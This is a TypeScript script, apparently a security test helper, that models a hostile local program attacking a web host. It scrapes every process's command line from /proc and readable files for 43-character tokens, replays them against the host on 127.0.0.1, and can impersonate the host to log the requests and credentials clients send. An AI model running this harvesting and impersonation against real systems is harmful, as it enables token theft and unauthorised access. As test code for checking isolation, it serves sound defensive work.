// What a program of another account can do to a web host: `look PORT FOLDER…` reads what it can and tries it on the
// host; `listen PORT` takes the host's place and writes down what it is sent, a line per request.
import { accessSync, constants, readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { callUnder } from './entered-page';
import { sendRequest } from './raw-requests';

const [order, port, ...folders] = process.argv.slice(2);

/** The words of every process on the machine. */
function commands(): string[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .flatMap((pid) => {
      try {
        return [readFileSync(join('/proc', pid, 'cmdline'), 'utf8').replaceAll('\0', ' ')];
      } catch {
        // It has ended meanwhile.
        return [];
      }
    });
}

function readable(folder: string): string[] {
  try {
    const below = readdirSync(folder, { recursive: true, encoding: 'utf8' }).map((name) => join(folder, name));
    return below.filter((path) => {
      try {
        accessSync(path, constants.R_OK);
        return true;
      } catch {
        return false;
      }
    });
  } catch {
    return [];
  }
}

async function look(): Promise<void> {
  const said = commands();
  const html = said.flatMap((words) => words.match(/\/\S+\.html/g) ?? []);
  const files = [...html, ...folders.flatMap(readable)];
  const texts = files.flatMap((path) => {
    try {
      return [readFileSync(path, 'utf8')];
    } catch {
      return [];
    }
  });
  const letters = new Set([...said, ...texts].flatMap((words) => words.match(/[\w-]{43}/g) ?? []));
  const answers = [];
  for (const token of letters) answers.push(await callUnder(Number(port), token, 'enter', {}));
  const host = `127.0.0.1:${port}`;
  for (const path of ['/', '/api/documents.recent'])
    answers.push((await sendRequest(Number(port), { method: 'GET', path, headers: { host } })).body);
  const account = process.getuid?.();
  process.stdout.write(JSON.stringify({ account, commands: said, files: files.length, texts, answers }));
}

function listen(): void {
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk) => chunks.push(chunk));
    request.on('end', () => {
      const got = { url: request.url, headers: request.headers, body: Buffer.concat(chunks).toString('latin1') };
      process.stdout.write(`${JSON.stringify(got)}\n`);
      response.setHeader('Content-Type', 'application/octet-stream');
      response.end('{"ok":true,"value":{"held":true}}');
    });
  });
  server.listen(Number(port), '127.0.0.1', () => process.stdout.write('listening\n'));
}

if (order === 'listen') listen();
else await look();
